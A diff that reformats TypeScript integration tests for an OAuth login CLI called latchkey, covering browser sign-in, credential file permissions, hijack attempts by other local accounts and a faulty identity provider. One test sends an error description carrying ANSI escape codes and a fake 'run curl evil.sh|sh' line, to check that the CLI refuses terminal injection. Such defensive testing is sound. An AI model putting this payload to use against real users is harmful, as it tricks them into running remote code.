@@ -23,7 +23,9 @@ const password = 'carol-password';
 beforeAll(async () => {
   dir = mkdtempSync(join(tmpdir(), 'latchkey-cli-'));
   serverEnv = { LATCHKEY_DB: join(dir, 'server.db') };
-  expect((await runCli(['users', 'add', 'carol', '--email', 'carol@example.com', '--name', 'Carol Client', '--password-stdin'], serverEnv, password)).code).toBe(0);
+  expect(
+    (await runCli(['users', 'add', 'carol', '--email', 'carol@example.com', '--name', 'Carol Client', '--password-stdin'], serverEnv, password)).code,
+  ).toBe(0);
   // Hour-long tokens: fresh until a test ages the stored one (ageStoredToken), so a second
   // `latchkey token` process always finds the first one's token fresh, however loaded the machine.
   server = await startServerProcess({ ...serverEnv, LATCHKEY_ACCESS_TOKEN_TTL: '3600', LATCHKEY_DEVICE_INTERVAL: '1' });
@@ -59,7 +61,11 @@ async function signInAtServer(authorizationUrl: string, decision: 'allow' | 'den
   }
   if (page.status === 200) {
     // The loopback confirmation (RFC 8252 §8.6) when no sign-in page was shown for this request.
-    page = await browser.post('/authorize/decision', { csrf_token: inputValue(page.body, 'csrf_token')!, interaction: inputValue(page.body, 'interaction')!, decision });
+    page = await browser.post('/authorize/decision', {
+      csrf_token: inputValue(page.body, 'csrf_token')!,
+      interaction: inputValue(page.body, 'interaction')!,
+      decision,
+    });
   }
   expect(page.location).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/callback\?/);
   return page.location!;
@@ -93,7 +99,12 @@ describe('latchkey login (browser)', () => {
     expect(statSync(credentialsPath()).mode & 0o777).toBe(0o600);
     const stored = credentials();
     expect(stored.version).toBe(1);
-    expect(stored.profiles.default).toMatchObject({ issuer: server.base, client_id: 'latchkey-cli', scope: 'openid email profile offline_access', token_type: 'Bearer' });
+    expect(stored.profiles.default).toMatchObject({
+      issuer: server.base,
+      client_id: 'latchkey-cli',
+      scope: 'openid email profile offline_access',
+      token_type: 'Bearer',
+    });
     expect(String(stored.profiles.default!.refresh_token)).toMatch(/^lk_rt_/);
     expect(String(stored.profiles.default!.id_token).split('.')).toHaveLength(3);
   });
@@ -192,7 +203,11 @@ describe('latchkey login (browser)', () => {
     const [url] = await cli.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
     const authorization = new URL(url);
     const callback = new URL(authorization.searchParams.get('redirect_uri')!);
-    callback.search = new URLSearchParams({ state: authorization.searchParams.get('state')!, error: 'server_error', error_description: '\u001b[31mRED\u001b[0m\nFAKE LINE: run curl evil.sh|sh' }).toString();
+    callback.search = new URLSearchParams({
+      state: authorization.searchParams.get('state')!,
+      error: 'server_error',
+      error_description: '\u001b[31mRED\u001b[0m\nFAKE LINE: run curl evil.sh|sh',
+    }).toString();
     const answer = await fetch(callback);
     expect(answer.status).toBe(400);
     expect(await cli.exit).toBe(1);
@@ -247,7 +262,10 @@ describe('latchkey login gives other local accounts nothing to start or finish t
       async calls(timeoutMs = 15_000): Promise<OpenerCall[]> {
         const written = () => (existsSync(log) ? readFileSync(log, 'utf8') : '');
         const text = await waitFor(() => written().endsWith('\n') && written(), { timeout: timeoutMs, what: '$BROWSER to be called' });
-        return text.trimEnd().split('\n').map((line) => JSON.parse(line) as OpenerCall);
+        return text
+          .trimEnd()
+          .split('\n')
+          .map((line) => JSON.parse(line) as OpenerCall);
       },
     };
   }
@@ -271,7 +289,8 @@ describe('latchkey login gives other local accounts nothing to start or finish t
   }
 
   /** The person's browser submitting the page's form (or anyone else who had the secret). */
-  const post = (page: { action: string; secret: string }) => fetch(page.action, { method: 'POST', body: new URLSearchParams({ t: page.secret }), redirect: 'manual' });
+  const post = (page: { action: string; secret: string }) =>
+    fetch(page.action, { method: 'POST', body: new URLSearchParams({ t: page.secret }), redirect: 'manual' });
 
   /** The folders sign-in pages are written to: none outlives its `latchkey login`. */
   const pageFolders = () => (existsSync(join(home, '.latchkey')) ? readdirSync(join(home, '.latchkey')).filter((name) => name.startsWith('login-')) : []);
@@ -361,7 +380,12 @@ describe('latchkey login gives other local accounts nothing to start or finish t
     // The intruder signs in as itself and its browser is sent back with the right state: nobody takes it.
     const callback = await signInAtServer(first.headers.get('location')!);
     expect(new URL(callback).searchParams.get('state')).toBe(authorization.searchParams.get('state'));
-    expect(await fetch(callback).then((r) => r.status, () => 'refused')).toBe('refused');
+    expect(
+      await fetch(callback).then(
+        (r) => r.status,
+        () => 'refused',
+      ),
+    ).toBe('refused');
     expect(existsSync(credentialsPath()) ? credentials().profiles.hijacked : undefined).toBeUndefined();
     expect(existsSync(fileURLToPath(fileUrl))).toBe(false);
     expect(pageFolders()).toEqual([]);
@@ -442,7 +466,7 @@ describe('latchkey login gives other local accounts nothing to start or finish t
     expect(existsSync(credentialsPath()) ? credentials().profiles.failed : undefined).toBeUndefined();
   });
 
-  it('--no-browser writes no page file and prints the request on stderr, the person\'s own terminal', async () => {
+  it("--no-browser writes no page file and prints the request on stderr, the person's own terminal", async () => {
     const cli = spawnCli(['login', '--no-browser', '--profile', 'printed'], cliEnv);
     running.push(cli);
     const [url] = await cli.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
@@ -505,7 +529,13 @@ describe('a misbehaving identity provider', () => {
       const base = `http://127.0.0.1:${(fake.address() as { port: number }).port}`;
       const json = (body: unknown) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
       if (req.url === '/.well-known/openid-configuration') {
-        return json({ issuer: base, token_endpoint: `${base}/token`, device_authorization_endpoint: `${base}/device`, jwks_uri: `${base}/jwks`, response_types_supported: ['code'] });
+        return json({
+          issuer: base,
+          token_endpoint: `${base}/token`,
+          device_authorization_endpoint: `${base}/device`,
+          jwks_uri: `${base}/jwks`,
+          response_types_supported: ['code'],
+        });
       }
       if (req.url === '/device') return json({ device_code: 'dc', user_code: 'BCDF-GHJK', verification_uri: `${base}/activate`, expires_in: 60, interval: 1 });
       return json({ token_type: 'Bearer' }); // 200, but no access_token
